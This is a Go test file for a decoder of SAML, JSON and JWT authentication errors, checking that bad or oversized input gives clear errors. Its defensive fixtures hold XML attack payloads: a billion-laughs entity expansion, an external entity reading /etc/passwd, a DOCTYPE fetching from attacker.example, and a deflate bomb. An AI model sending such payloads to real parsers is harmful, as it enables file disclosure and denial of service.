package decode

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"errors"
	"strings"
	"testing"
)

const okSAML = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_1" Version="2.0" IssueInstant="2025-06-01T11:59:00Z"><saml:Issuer>https://idp.example.org/idp</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"/></samlp:StatusCode></samlp:Status></samlp:Response>`

func deflateBase64(data []byte) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	w.Write(data)
	w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

// cutTo returns s cut to a length whose remainder modulo 4 is rem.
func cutTo(s string, rem int) string {
	n := len(s) - 10
	for n%4 != rem {
		n--
	}
	return s[:n]
}

// TestBadInput checks that input the decoder cannot work with gives an
// error callers can test, with a message a person understands, and never a
// panic; and that input which only looks like JSON, XML or a JWT and does not
// parse is read as text, with a warning saying what is broken.
func TestBadInput(t *testing.T) {
	d := testDecoder(t)
	b64 := base64.StdEncoding.EncodeToString([]byte(okSAML))
	tests := []struct {
		name, input string
		want        error
		mention     string // a phrase the message must contain
	}{
		{"empty", "", ErrEmpty, "empty"},
		{"blank", " \n\t ", ErrEmpty, "empty"},
		{"too large", strings.Repeat("a", MaxInputBytes+1), ErrTooLarge, "256 KiB"},
		{"NUL byte", "error=invalid_grant\x00", ErrBinary, "NUL"},
		{"invalid UTF-8", "error=\xff\xfe", ErrBinary, "UTF-8"},
		{"base64 cut mid-group", cutTo(b64, 1), ErrMalformed, "cut off"},
		{"base64 cut, XML cut", cutTo(b64, 2), ErrMalformed, "ends"},
		{"SAMLResponse cut in a form", "SAMLResponse=" + cutTo(b64, 1) + "&RelayState=x", ErrMalformed, "cut off"},
		{"SAMLResponse not SAML", "SAMLResponse=aGVsbG8gd29ybGQ%3D&RelayState=x", ErrMalformed, "not a base64-encoded SAML"},
		{"deflate cut", cutTo(deflateBase64([]byte(okSAML)), 0), ErrMalformed, "cut off"},
		{"XML end tag mismatch", `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><saml:Issuer>x</samlp:Response>`, ErrMalformed, "closes"},
		{"XML cut", okSAML[:len(okSAML)-30], ErrMalformed, "ends"},
		{"XML not SAML", base64.StdEncoding.EncodeToString([]byte(`<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x"/>`)), ErrMalformed, "not a SAML"},
		{"DOCTYPE, no SAML", `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>`, ErrUnsafeXML, "DOCTYPE"},
		{"XML undefined entity", `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&xxe;</samlp:Response>`, ErrMalformed, "entity"},
		{"billion laughs", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><samlp:Response>&lol2;</samlp:Response>`, ErrUnsafeXML, "DOCTYPE"},
		{"external entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><samlp:Response><saml:Issuer>&xxe;</saml:Issuer></samlp:Response>`, ErrUnsafeXML, "DOCTYPE"},
		{"DOCTYPE in base64", base64.StdEncoding.EncodeToString([]byte(`<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><samlp:Response>&x;</samlp:Response>`)), ErrUnsafeXML, "DOCTYPE"},
		{"deep XML", "<samlp:Response>" + strings.Repeat("<a>", 200) + strings.Repeat("</a>", 200) + "</samlp:Response>", ErrTooDeep, "64"},
		{"deep JSON array", strings.Repeat("[", 5000) + strings.Repeat("]", 5000), ErrTooDeep, "nested"},
		{"deep JSON object", strings.Repeat(`{"a":`, 100) + "1" + strings.Repeat("}", 100), ErrTooDeep, "nested"},
		{"JSON cut", `{"error":"invalid_grant","error_descri`, ErrMalformed, "cut off"},
		{"JSON syntax", `{"error": invalid_grant}`, ErrMalformed, "syntax"},
		{"JWT claims not JSON", "eyJhbGciOiJIUzI1NiJ9.bm90IGpzb24.c2ln", ErrMalformed, "JSON"},
		{"JWT header not base64", "eyJhbGciOiJIUzI1NiJ9x.eyJpc3MiOiJ4In0.c2ln", ErrMalformed, "header"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := d.Decode(tt.input, Options{Now: testNow})
			if readAsText(tt.want) {
				// Broken inside, not unreadable: read as text, with a warning
				// that says what is broken.
				if err != nil {
					t.Fatalf("error %v; want the input read as text", err)
				}
				for _, w := range r.Warnings {
					if w.Code == WarnUndecodable && strings.Contains(w.Message, tt.mention) {
						return
					}
				}
				t.Fatalf("no undecodable warning mentioning %q: %+v", tt.mention, r.Warnings)
			}
			if err == nil {
				t.Fatalf("no error; result %+v", r)
			}
			if !errors.Is(err, tt.want) {
				t.Errorf("error %q is not %v", err, tt.want)
			}
			var ie *InputError
			if !errors.As(err, &ie) {
				t.Errorf("error %T is not an *InputError", err)
			}
			if !strings.Contains(err.Error(), tt.mention) {
				t.Errorf("message %q does not mention %q", err, tt.mention)
			}
		})
	}
}

// TestDeflateBomb: a small redirect-binding message that inflates without
// end is refused once it passes the inflation limit.
func TestDeflateBomb(t *testing.T) {
	bomb := deflateBase64(append([]byte("<samlp:Response>"), bytes.Repeat([]byte("A"), 8<<20)...))
	if len(bomb) > MaxInputBytes {
		t.Fatalf("the bomb is %d bytes, over the input limit", len(bomb))
	}
	_, err := testDecoder(t).Decode(bomb, Options{Now: testNow})
	if !errors.Is(err, ErrTooLarge) || !strings.Contains(err.Error(), "inflates") {
		t.Fatalf("err = %v, want ErrTooLarge about inflating", err)
	}
}

// TestNothingRecognised: text with nothing known in it is no error, just
// an empty result.
func TestNothingRecognised(t *testing.T) {
	for _, in := range []string{"hello world", "the login page is blank", "12345", "<<<>>>", "<html><body>Sign-in failed</body></html>"} {
		r, err := testDecoder(t).Decode(in, Options{Now: testNow})
		if err != nil {
			t.Errorf("%q: %v", in, err)
			continue
		}
		if r.Recognized() {
			t.Errorf("%q: recognised %+v", in, r)
		}
	}
}
